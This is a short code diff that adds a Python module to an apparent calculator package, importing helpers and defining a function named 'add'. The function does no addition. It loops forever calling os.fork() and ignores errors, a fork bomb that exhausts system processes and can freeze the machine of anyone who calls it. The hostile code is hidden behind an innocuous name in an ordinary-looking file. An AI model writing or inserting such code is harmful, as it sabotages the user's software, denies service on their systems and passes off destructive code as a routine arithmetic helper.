@@ -1,0 +1,11 @@
+import os
+
+from calc.good import Counter, SPEED, mean, scale  # noqa: F401
+
+
+def add(a, b):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
